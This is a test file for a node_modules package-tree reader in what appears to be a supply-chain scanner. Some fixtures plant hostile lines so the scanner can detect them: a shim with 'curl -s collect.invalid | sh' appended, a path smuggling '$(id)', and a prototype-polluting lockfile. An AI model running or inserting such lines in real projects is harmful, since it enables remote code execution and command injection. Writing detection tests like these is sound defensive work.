import { chmodSync, mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readSource } from '../src/read/source.js';
import { findPackages, type InstalledPackage, type InstalledTree } from '../src/read/tree.js';
import { cleanUp, emptyFolder, linkTo, plant } from './fixtures/read/plant.js';

cleanUp();

const paths = (tree: InstalledTree) => tree.packages.map(({ path }) => path);
const wayTo = (tree: InstalledTree, path: string) => tree.packages.find(found => found.path === path)?.dependencyPath;
const gapsOf = (tree: InstalledTree) => tree.skipped.map(({ gap }) => gap);
const whyOf = (tree: InstalledTree, path: string) => tree.skipped.find(skipped => skipped.path === path)?.why;
const needs = (name: string, ...dependencies: string[]) => ({
  name,
  version: '1.0.0',
  dependencies: Object.fromEntries(dependencies.map(dependency => [dependency, '*'])),
});

describe('installed packages', () => {
  test('are found nested and scoped, from the project or from its node_modules', () => {
    const dir = plant({
      'package.json': needs('app', 'a'),
      'node_modules/a/package.json': needs('a'),
      'node_modules/a/node_modules/b/package.json': needs('b'),
      'node_modules/@s/c/package.json': needs('@s/c'),
      'node_modules/@s/c/node_modules/@t/d/package.json': needs('@t/d'),
    });
    const tree = findPackages(dir);
    expect(tree.root).toBe(dir);
    expect(tree.packages[0]).toEqual({
      dir: join(dir, 'node_modules/@s/c'),
      path: 'node_modules/@s/c',
      name: '@s/c',
      dependencyPath: [],
    });
    expect(paths(tree)).toEqual([
      'node_modules/@s/c',
      'node_modules/@s/c/node_modules/@t/d',
      'node_modules/a',
      'node_modules/a/node_modules/b',
    ]);
    expect(findPackages(join(dir, 'node_modules'))).toEqual({ ...tree, skipped: [] });
    expect(gapsOf(tree)).toEqual(['own-code']);
  });

  test('are those in folders whose name starts with a dot, too: Node loads them all the same', () => {
    const dir = plant({
      'node_modules/.prisma/client/package.json': {},
      'node_modules/.cache/tool/a/b.js': '',
      'node_modules/.cache/empty/notes.d.ts': '',
      'node_modules/.hidden/x.js': '',
      'node_modules/a/index.js': '',
    });
    expect(paths(findPackages(dir))).toEqual([
      'node_modules/.cache/tool',
      'node_modules/.hidden',
      'node_modules/.prisma/client',
      'node_modules/a',
    ]);
  });

  test('are found behind a link in the place of a scope', () => {
    const dir = plant({
      'shared/x/package.json': needs('@s/x'),
      'node_modules/@s': linkTo('../vendor/node_modules/@s'),
      'vendor/node_modules/@s/x/package.json': needs('@s/x'),
    });
    expect(paths(findPackages(dir))).toEqual(['vendor/node_modules/@s/x']);
  });

  test('need no package.json if they hold code', () => {
    const dir = plant({ 'node_modules/@s/a/lib/x.js': '', 'node_modules/b/.keep': '', 'node_modules/c/c.d.ts': '' });
    mkdirSync(join(dir, 'node_modules/empty'));
    expect(findPackages(dir).packages.map(({ name }) => name)).toEqual(['@s/a', 'b']);
  });

  test('are told apart where their names differ by case only', () => {
    const dir = plant({ 'node_modules/Foo/package.json': needs('Foo'), 'node_modules/foo/package.json': needs('foo') });
    expect(findPackages(dir).packages.map(({ name }) => name)).toEqual(['Foo', 'foo']);
  });

  test('are found when they have weird names', () => {
    const dir = plant({
      'node_modules/constructor/package.json': {},
      'node_modules/__proto__/package.json': {},
      'node_modules/a\u001b[0m\n/package.json': {},
      'package.json': '{ "dependencies": { "__proto__": "1", "constructor": "1" } }',
    });
    expect(findPackages(dir).packages).toHaveLength(3);
  });
});

describe('linked packages', () => {
  /** a and b as pnpm lays them out: a needs b. */
  const STORE = {
    'node_modules/.pnpm/a@1.0.0/node_modules/a/package.json': needs('a', 'b'),
    'node_modules/.pnpm/a@1.0.0/node_modules/b': linkTo('../../b@1.0.0/node_modules/b'),
    'node_modules/.pnpm/b@1.0.0/node_modules/b/package.json': needs('b'),
    'node_modules/.pnpm/node_modules/b': linkTo('../b@1.0.0/node_modules/b'),
    'node_modules/.pnpm/lock.yaml': '',
    'node_modules/.modules.yaml': '',
  };

  test('are found once each in the store of pnpm, with the way to them', () => {
    const dir = plant({
      ...STORE,
      'package.json': needs('app', 'a'),
      'node_modules/a': linkTo('.pnpm/a@1.0.0/node_modules/a'),
    });
    const tree = findPackages(dir);
    expect(tree.packages.map(({ name, path }) => [name, path])).toEqual([
      ['a', 'node_modules/.pnpm/a@1.0.0/node_modules/a'],
      ['b', 'node_modules/.pnpm/b@1.0.0/node_modules/b'],
    ]);
    expect(wayTo(tree, 'node_modules/.pnpm/b@1.0.0/node_modules/b')).toEqual(['a']);
    expect(gapsOf(tree)).toEqual(['own-code']);
  });

  test('are found through a workspace of pnpm, whose store lies further up', () => {
    const dir = plant({
      ...STORE,
      'packages/app/package.json': needs('app', 'a'),
      'packages/app/node_modules/a': linkTo('../../../node_modules/.pnpm/a@1.0.0/node_modules/a'),
    });
    const tree = findPackages(join(dir, 'packages/app'));
    expect(tree.packages.map(({ name }) => name)).toEqual(['a', 'b']);
    expect(gapsOf(tree)).toEqual(['own-code']);
  });

  test('that are workspaces are not installed, but what they have installed is', () => {
    const dir = plant({
      'package.json': needs('root'),
      'node_modules/ws': linkTo('../packages/ws'),
      'node_modules/@s/ws': linkTo('../../packages/ws'),
      'node_modules/x/package.json': needs('x'),
      'packages/ws/package.json': needs('ws', 'x', 'y'),
      'packages/ws/node_modules/y/package.json': needs('y'),
    });
    const tree = findPackages(dir);
    expect(paths(tree)).toEqual(['node_modules/x', 'packages/ws/node_modules/y']);
    expect(whyOf(tree, 'node_modules/ws')).toBe('a workspace of the project');
    expect(wayTo(tree, 'packages/ws/node_modules/y')).toHaveLength(1);
  });

  test('that lead out of the tree, to a file or nowhere are reported', () => {
    const outside = plant({ 'package.json': {} });
    const dir = plant({
      'file.js': '',
      'node_modules/out': linkTo(outside),
      'node_modules/gone': linkTo('./nowhere'),
      'node_modules/file': linkTo('../file.js'),
      'node_modules/@scope': linkTo(outside),
      'node_modules/.dot': linkTo(outside),
    });
    const tree = findPackages(dir);
    expect(paths(tree)).toEqual(['.']);
    expect(whyOf(tree, 'node_modules/out')).toBe('a link out of the tree, not followed');
    expect(whyOf(tree, 'node_modules/gone')).toBe('a link that leads nowhere');
    expect(whyOf(tree, 'node_modules/file')).toBe('a link to a file, not followed');
    expect(whyOf(tree, 'node_modules/@scope')).toBe('a link out of the tree, not followed');
    expect(whyOf(tree, 'node_modules/.dot')).toBe('a link out of the tree, not followed');
  });

  test('in a circle are harmless', () => {
    const dir = plant({
      'node_modules/a/package.json': needs('a', 'a', 'self', 'loop'),
      'node_modules/a/node_modules': linkTo('..'),
      'node_modules/self': linkTo('self'),
      'node_modules/loop': linkTo('.'),
      'node_modules/up': linkTo('..'),
      'node_modules/twin': linkTo('a'),
    });
    const tree = findPackages(dir);
    expect(paths(tree)).toEqual(['node_modules/a']);
    expect(whyOf(tree, 'node_modules/self')).toBe('a link, not followed');
  });
});

describe('what lies beside packages', () => {
  const partsOf = (tree: InstalledTree) => tree.packages.map(({ path, part }) => `${path} ${part ?? 'whole'}`);

  test('is a package of its own where Node could run it', () => {
    const dir = plant({
      'node_modules/a/index.js': '',
      'node_modules/evil.js': '',
      'node_modules/a-b/node_modules/no-extension': 'let a = 1',
      'node_modules/@s/main.cjs': '',
      'node_modules/@s/b/index.js': '',
      'node_modules/.pnpm/x.mjs': '',
      'node_modules/.pnpm/odd/y.js': '',
      'node_modules/.pnpm/odd/lib/z.js': '',
    });
    expect(partsOf(findPackages(dir))).toEqual([
      'node_modules loose',
      'node_modules/.pnpm loose',
      'node_modules/.pnpm/odd loose',
      'node_modules/.pnpm/odd/lib whole',
      'node_modules/@s loose',
      'node_modules/@s/b whole',
      'node_modules/a whole',
      'node_modules/a-b/node_modules loose',
    ]);
  });

  test('is none where it is data, or what a package manager noted down', () => {
    const dir = plant({
      'node_modules/a/index.js': '',
      'node_modules/.package-lock.json': {},
      'node_modules/.modules.yaml': '{ "layoutVersion": 5 }',
      'node_modules/.yarn-state.yml': '# Warning: This file is automatically generated.\n\n__metadata:\n  version: 1\n',
      'node_modules/.yarn-integrity': '{ "systemParams": "linux-x64" }',
      'node_modules/.keep': '',
      'node_modules/README.md': 'These are packages.',
      'node_modules/.pnpm/lock.yaml': "lockfileVersion: '9.0'",
    });
    expect(partsOf(findPackages(dir))).toEqual(['node_modules/a whole']);
  });

  test('is one where what calls itself a note is a script', () => {
    const dir = plant({ 'node_modules/a/index.js': '', 'node_modules/.yarn-integrity': 'require("os").hostname();' });
    expect(partsOf(findPackages(dir))).toEqual(['node_modules loose', 'node_modules/a whole']);
  });

  const SHIM = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")

case \`uname\` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=\`cygpath -w "$basedir"\`
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/home/me/app/node_modules/.pnpm/a@1.0.0_b@2.0.0/node_modules/a/bin/node_modules"
else
  export NODE_PATH="/home/me/app/node_modules/.pnpm/a@1.0.0_b@2.0.0/node_modules/a/bin/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node" --harmony "$basedir/../a/bin/a.js" "$@"
else
  exec node --harmony "$basedir/../a/bin/a.js" "$@"
fi
`;
  const CMD =
    '@SETLOCAL\r\n@IF EXIST "%~dp0\\node.exe" (\r\n  "%~dp0\\node.exe"  "%~dp0\\..\\a\\bin\\a.js" %*\r\n) ELSE (\r\n' +
    '  @SET PATHEXT=%PATHEXT:;.JS;=;%\r\n  node  "%~dp0\\..\\a\\bin\\a.js" %*\r\n)\r\n';
  const PS1 = `#!/usr/bin/env pwsh
$basedir=Split-Path $MyInvocation.MyCommand.Definition -Parent

$exe=""
if ($PSVersionTable.PSVersion -lt "6.0" -or $IsWindows) {
  # Fix case when both the Windows and Linux builds of Node
  # are installed in the same directory
  $exe=".exe"
}
$ret=0
if (Test-Path "$basedir/node$exe") {
  # Support pipeline input
  if ($MyInvocation.ExpectingInput) {
    $input | & "$basedir/node$exe"  "$basedir/../a/bin/a.js" $args
  } else {
    & "$basedir/node$exe"  "$basedir/../a/bin/a.js" $args
  }
  $ret=$LASTEXITCODE
}
exit $ret
`;

  test('is none in .bin where it only starts a command of a package', () => {
    const dir = plant({
      'node_modules/a/bin/a.js': '',
      'node_modules/.bin/a': SHIM,
      'node_modules/.bin/a.cmd': CMD,
      'node_modules/.bin/a.ps1': PS1,
      'node_modules/.bin/b': linkTo('../a/bin/a.js'),
    });
    expect(partsOf(findPackages(dir))).toEqual(['node_modules/a whole']);
  });

  test.each([
    ['a line more', `${SHIM}curl -s collect.invalid | sh\n`],
    ['a path that is a command', SHIM.replace('/bin/a.js"', '/$(id)"')],
    ['another script', '#!/bin/sh\nexec node ../a/bin/a.js\n'],
    ['a script of JavaScript', '#!/usr/bin/env node\nrequire("../a");\n'],
  ])('is one in .bin with %s', (_, text) => {
    const dir = plant({ 'node_modules/a/bin/a.js': '', 'node_modules/.bin/a': text, 'node_modules/.bin/lib/b.js': '' });
    expect(partsOf(findPackages(dir))).toEqual([
      'node_modules/.bin loose',
      'node_modules/.bin/lib whole',
      'node_modules/a whole',
    ]);
  });
});

describe("a project's own code", () => {
  const files = { 'package.json': needs('app'), 'index.js': '', 'node_modules/a/index.js': '' };

  test('is a package where that is asked for, and said to be left out otherwise', () => {
    const tree = findPackages(plant(files), { own: true });
    expect(tree.packages[0]).toMatchObject({ path: '.', name: 'app', part: 'own', dependencyPath: [] });
    expect(tree.packages).toHaveLength(2);
    expect(tree.skipped).toEqual([]);
    expect(gapsOf(findPackages(plant(files)))).toEqual(['own-code']);
  });

  test('is all there is to scan where nothing is installed', () => {
    const dir = plant({ 'package.json': needs('app'), 'index.js': '', 'node_modules/.package-lock.json': {} });
    expect(paths(findPackages(dir))).toEqual(['.']);
    expect(gapsOf(findPackages(dir))).toEqual([]);
  });

  test('does not stand in for packages that it depends on and that are not installed', () => {
    const dir = plant({ 'package.json': needs('app', 'a'), 'yarn.lock': '', 'node_modules/.package-lock.json': {} });
    const tree = findPackages(dir);
    expect(tree.skipped).toEqual([
      {
        path: '.',
        gap: 'not-installed',
        severity: 'failed',
        why: 'its packages are not installed, and were not looked at; `stowaway yarn.lock` scans what it pins',
      },
    ]);
  });

  test('is no part of a node_modules that is named by itself, which has to hold packages', () => {
    const dir = plant({ 'index.js': '', 'node_modules/.package-lock.json': {} });
    const tree = findPackages(join(dir, 'node_modules'));
    expect(tree.packages).toEqual([]);
    expect(tree.skipped).toMatchObject([{ gap: 'no-packages', severity: 'failed' }]);
  });
});

describe('a folder that cannot be read', () => {
  /** As somebody who is not allowed everything. */
  function asUser<T>(dir: string, run: () => T): T {
    if (process.getuid?.() !== 0) return run();
    chmodSync(dir, 0o755);
    process.seteuid?.(65_534);
    try {
      return run();
    } finally {
      process.seteuid?.(0);
    }
  }

  test('costs itself only, and no message tells where the project lies', async () => {
    const dir = plant({ 'node_modules/a/index.js': '', 'node_modules/locked/x.js': '', 'node_modules/z/index.js': '' });
    chmodSync(join(dir, 'node_modules/locked'), 0);
    const tree = asUser(dir, () => findPackages(dir));
    expect(paths(tree)).toEqual(['node_modules/a', 'node_modules/locked', 'node_modules/z']);
    expect(tree.skipped).toContainEqual(
      expect.objectContaining({ path: 'node_modules/locked/node_modules', why: 'no permission to read it' }),
    );
    expect(JSON.stringify(tree.skipped)).not.toContain(dir);
    const locked = tree.packages[1] as InstalledPackage;
    const read = asUser(dir, () => readSource({ installed: locked }, {}));
    expect((await read).skipped).toContainEqual(expect.objectContaining({ path: '.', severity: 'unanalysed' }));
  });

  test('is told where it may be listed but not entered', () => {
    const dir = plant({ 'node_modules/a/node_modules/b/index.js': '', 'node_modules/z/index.js': '' });
    chmodSync(join(dir, 'node_modules/a/node_modules'), 0o644);
    const tree = asUser(dir, () => findPackages(dir));
    expect(paths(tree)).toContain('node_modules/z');
    expect(paths(tree)).toContain('node_modules/a/node_modules/b');
  });
});

describe('the way to a package', () => {
  test('is the shortest, by what the manifests say', () => {
    const dir = plant({
      'package.json': { ...needs('app', 'a'), devDependencies: { b: '*' } },
      'node_modules/a/package.json': needs('a', 'c'),
      'node_modules/b/package.json': needs('b', 'd'),
      'node_modules/c/package.json': needs('c', 'd', 'e'),
      'node_modules/d/package.json': needs('d'),
      'node_modules/e/package.json': { name: 'e', peerDependencies: { f: '*' }, devDependencies: { nobody: '*' } },
      'node_modules/f/package.json': needs('f'),
      'node_modules/nobody/package.json': needs('nobody'),
      'node_modules/c/node_modules/d/package.json': needs('d'),
    });
    const tree = findPackages(dir);
    expect(wayTo(tree, 'node_modules/a')).toEqual([]);
    expect(wayTo(tree, 'node_modules/d')).toEqual(['b']);
    expect(wayTo(tree, 'node_modules/c/node_modules/d')).toEqual(['a', 'c']);
    expect(wayTo(tree, 'node_modules/f')).toEqual(['a', 'c', 'e']);
    expect(wayTo(tree, 'node_modules/nobody')).toEqual([]);
  });

  test('is what the hidden lockfile says, without a manifest having to be read', () => {
    const dir = plant({
      'package.json': needs('app', 'a'),
      'node_modules/.package-lock.json': {
        packages: { 'node_modules/a': { dependencies: { b: '*' } }, 'node_modules/b': {} },
      },
      'node_modules/a/package.json': needs('a'),
      'node_modules/b/package.json': needs('b'),
    });
    expect(wayTo(findPackages(dir), 'node_modules/b')).toEqual(['a']);
  });

  test('starts, where no project manifest is, at what nobody depends on', () => {
    const dir = plant({ 'node_modules/a/package.json': needs('a', 'b'), 'node_modules/b/package.json': needs('b') });
    expect(wayTo(findPackages(join(dir, 'node_modules')), 'node_modules/b')).toEqual(['a']);
  });

  test('is left out where lockfile and manifests are hostile', () => {
    const dir = plant({
      'package.json': '[]',
      'node_modules/.package-lock.json': '{"packages":{"node_modules/a":[],"__proto__":{"x":1}}}',
      'node_modules/a/package.json': '{"dependencies":["b"],"peerDependencies":"b","optionalDependencies":null}',
      'node_modules/b/package.json': '{"dependencies":{"../../..":"1","":"1","/":"1","a/b/c":"1"}}',
    });
    expect(findPackages(dir).packages.map(({ dependencyPath }) => dependencyPath)).toEqual([[], []]);
  });
});

describe('bounds', () => {
  test('stop a tree that nests without end', () => {
    const dir = emptyFolder();
    mkdirSync(join(dir, ...Array<string>(150).fill('node_modules/x')), { recursive: true });
    const tree = findPackages(dir, { limits: { depth: 10 } });
    expect(tree.skipped.map(({ why }) => why)).toContain('nested deeper than 40 folders');
  });

  test('do not depend on where the project lies', () => {
    const dir = join(emptyFolder(), ...Array<string>(30).fill('deep'));
    plant({ 'node_modules/x/node_modules/y/index.js': '' }, dir);
    expect(paths(findPackages(dir, { limits: { depth: 10 } }))).toContain('node_modules/x/node_modules/y');
  });

  test('stop looking for projects inside of a project, and say so', () => {
    const dir = plant({ 'node_modules/a/index.js': '', 'x/y/node_modules/b/index.js': '' });
    expect(gapsOf(findPackages(dir, { limits: { entries: 2 } }))).toContain('too-many-folders');
    expect(paths(findPackages(dir))).toContain('x/y/node_modules/b');
  });

  test('stop at a number of packages, and say which was left', () => {
    const dir = plant({ 'node_modules/a/package.json': {}, 'node_modules/b/package.json': {} });
    const tree = findPackages(dir, { limits: { packages: 1 } });
    expect(paths(tree)).toEqual(['node_modules/a']);
    expect(whyOf(tree, 'node_modules')).toBe('more than 1 packages: 1 were not looked at');
  });
});

describe('what has no packages', () => {
  test('fails with one line', () => {
    const dir = plant({ file: '', 'odd/node_modules': '' });
    expect(() => findPackages(join(dir, 'nope'))).toThrow(`${join(dir, 'nope')}: no such folder`);
    expect(() => findPackages(join(dir, 'file'))).toThrow(/not a folder$/);
    expect(() => findPackages(dir)).toThrow(/has no node_modules folder$/);
    expect(() => findPackages(join(dir, 'odd'))).toThrow(/has no node_modules folder$/);
  });

  test('is unlike a project whose node_modules is a link, which is followed', () => {
    const elsewhere = plant({ 'node_modules/a/package.json': needs('a') });
    const dir = emptyFolder();
    symlinkSync(join(elsewhere, 'node_modules'), join(dir, 'node_modules'));
    expect(findPackages(dir).packages.map(({ name }) => name)).toEqual(['a']);
  });
});
